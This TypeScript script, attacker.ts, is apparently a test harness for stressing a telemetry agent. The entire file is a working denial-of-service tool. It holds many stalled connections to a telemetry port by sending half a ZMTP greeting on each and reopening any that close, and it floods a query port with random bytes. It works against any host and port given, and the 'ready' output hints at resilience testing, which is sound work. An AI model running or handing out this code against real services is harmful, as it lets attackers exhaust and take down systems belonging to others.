/**
 * attacker.ts <host> <base port> <half-open connections> <bytes of garbage a second>
 *
 * Keeps so many connections to the telemetry port that have sent half of a ZMTP greeting and no more, making each anew that
 * the agent ends; and sends garbage to the query port, anew whenever it is thrown out. Says `ready` when all are open.
 */
import { randomBytes } from "node:crypto";
import { connect } from "node:net";

const [host = "", port = "", halfOpen = "", garbage = ""] = process.argv.slice(2);
/** Signature and version of ZMTP 3 (RFC 23), without the mechanism that the other then waits for. */
const HALF_GREETING = Buffer.from("ff00000000000000017f03", "hex");
const TICK_MS = 20;
/** Connections that are begun in one go. */
const BATCH = 100;

let open = 0;
let told = false;
function hold(): void {
  const socket = connect(Number(port), host, () => {
    socket.write(HALF_GREETING);
    if (++open >= Number(halfOpen) && !told) {
      told = true;
      console.log("ready");
    }
  });
  let wasOpen = false;
  socket.on("connect", () => (wasOpen = true));
  socket.on("error", () => {});
  socket.on("close", () => {
    if (wasOpen) open--;
    setTimeout(hold, TICK_MS);
  });
  socket.resume();
}

function flood(): void {
  const chunk = randomBytes(Math.ceil((Number(garbage) * TICK_MS) / 1_000));
  const socket = connect(Number(port) + 2, host);
  const timer = setInterval(() => socket.write(chunk), TICK_MS);
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(timer);
    setTimeout(flood, TICK_MS);
  });
  socket.resume();
}

if (Number(garbage) > 0) flood();
for (let begun = 0; begun < Number(halfOpen); begun += BATCH) {
  for (let i = 0; i < BATCH; i++) hold();
  await new Promise((resolve) => setTimeout(resolve, TICK_MS));
}
